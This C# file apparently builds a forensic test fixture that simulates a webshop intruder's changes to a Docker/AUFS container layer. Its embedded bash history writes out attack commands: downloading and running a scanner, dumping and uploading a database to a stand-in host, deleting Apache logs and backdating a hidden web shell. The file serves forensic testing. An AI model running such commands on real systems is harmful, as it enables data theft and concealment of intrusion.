using SampleRecipes.Archive;
using SampleRecipes.Engine;

namespace SampleRecipes.Webshop;

/// <summary>What the intruder changed in the container <c>web</c> in the night to 12 June, by way of the web shell.</summary>
internal static class WebshopIntrusion
{
    // Directories that AUFS copies up keep the time that the image's topmost layer gave them, unless a name in them changes.
    public static readonly Stamp ShopCopied = Stamp.Parse("2015-06-10T14:21:10Z");
    private static readonly Stamp ScriptRan = Stamp.Parse("2015-06-10T14:21:08Z");

    private static readonly Stamp Mounted = Stamp.Parse("2015-06-10T14:41:07.392907846Z");
    private static readonly Stamp Up = Stamp.Parse("2015-06-10T14:41:08.410226715Z");
    private static readonly Stamp ShellPut = Stamp.Parse("2015-06-12T02:11:46.902117738Z");
    private static readonly Stamp ToolsPut = Stamp.Parse("2015-06-12T02:14:05.330871209Z");
    private static readonly Stamp CacheReplaced = Stamp.Parse("2015-06-12T02:19:27.118004662Z");
    private static readonly Stamp LogsDeleted = Stamp.Parse("2015-06-12T02:28:51.207730514Z");

    /// <summary>When the last directory appeared in the container's layer: the intruder's shell ended and wrote its history.</summary>
    public static readonly Stamp LastCopiedUp = LogsDeleted.AddMicroseconds(4_480_000);

    private const string History =
        """
        id
        mkdir /tmp/.x; cd /tmp/.x
        wget http://192.0.2.44/sc
        chmod 755 sc
        ./sc 172.17.0.0/16
        mysqldump -h mysql -u shop -pFAKE-basket-77 shop > d.sql
        curl -F f=@d.sql http://198.51.100.23/up
        rm -rf /var/www/shop/cache; mkdir /var/www/shop/cache
        touch -d '2012-05-05 05:05:05' /var/www/shop/images/.thumb.php
        rm /var/log/apache2/access.log /var/log/apache2/error.log

        """;

    /// <summary>
    /// Fills the container's own layer, or the layer that <c>docker commit</c> made of it: that one went through a tar,
    /// which kept whole seconds only and left out AUFS's own names, the mark of an opaque directory among them.
    /// </summary>
    public static void Fill(AufsLayer layer, bool throughTar)
    {
        FillRoot(layer, throughTar);
        FillTemporary(layer, throughTar);
        FillShop(layer, throughTar);
        FillLogs(layer, throughTar);
    }

    private static Stamp At(Stamp time, bool throughTar) => throughTar ? time.Whole : time;

    private static void FillRoot(AufsLayer layer, bool throughTar)
    {
        layer.Directory("root", At(LastCopiedUp, throughTar), Modes.Private);
        layer.File("root/.bash_history", At(LastCopiedUp, throughTar), History, Modes.Secret);
    }

    private static void FillTemporary(AufsLayer layer, bool throughTar)
    {
        Stamp put = At(ToolsPut, throughTar);
        layer.Directory("tmp", put, Modes.Shared);
        layer.Directory("tmp/.x", At(ToolsPut.AddMicroseconds(611_000_000), throughTar), uid: 33, gid: 33);
        layer.File("tmp/.x/d.sql", At(ToolsPut.AddMicroseconds(188_402_117), throughTar),
            "INSERT INTO customers VALUES (1,'Ada Example','ada@example.com');\n", uid: 33, gid: 33);
        layer.Fifo("tmp/.x/f", put);
        layer.File("tmp/.x/sc", put, WebshopTrees.Scanner, Modes.Executable, uid: 33, gid: 33);
        layer.File("tmp/.x/t", Stamp.Parse("2031-01-01T00:00:00Z"), "time\n", uid: 33, gid: 33);
        layer.File("tmp/.x/u", put, WebshopTrees.Shell, Modes.SetGid, uid: 33, gid: 33);
    }

    private static void FillShop(AufsLayer layer, bool throughTar)
    {
        layer.Directories(ShopCopied, "var", "var/www");
        layer.Directory("var/www/shop", At(CacheReplaced, throughTar));
        layer.Directory("var/www/shop/cache", At(CacheReplaced.AddMicroseconds(8_114), throughTar), uid: 33, gid: 33);
        if (!throughTar)
            layer.Opaque("var/www/shop/cache", Mounted);
        layer.File("var/www/shop/cache/tpl-001.php", At(CacheReplaced.AddMicroseconds(9_733), throughTar), "<?php // changed\n", uid: 33, gid: 33);
        layer.Directory("var/www/shop/images", At(ShellPut.AddMicroseconds(2_000_551), throughTar));
        layer.File("var/www/shop/images/.thumb.php", Stamp.Parse("2012-05-05T05:05:05Z"), WebshopTrees.WebShell, uid: 33, gid: 33);
        layer.Symlink("var/www/shop/images/s", At(ShellPut.AddMicroseconds(2_000_551), throughTar), "/etc/shadow");
        layer.Directory("var/www/shop/uploads", At(Up, throughTar));
    }

    private static void FillLogs(AufsLayer layer, bool throughTar)
    {
        layer.Directory("var/log", ScriptRan);
        layer.Directory("var/log/apache2", At(LogsDeleted, throughTar), uid: 0, gid: 4);
        layer.Whiteout("var/log/apache2/access.log", At(Mounted, throughTar));
        layer.Whiteout("var/log/apache2/error.log", At(Mounted, throughTar));
        layer.Directory("var/run", At(Up, throughTar));
        layer.File("var/run/apache2.pid", At(Up, throughTar), "1\n");
    }
}
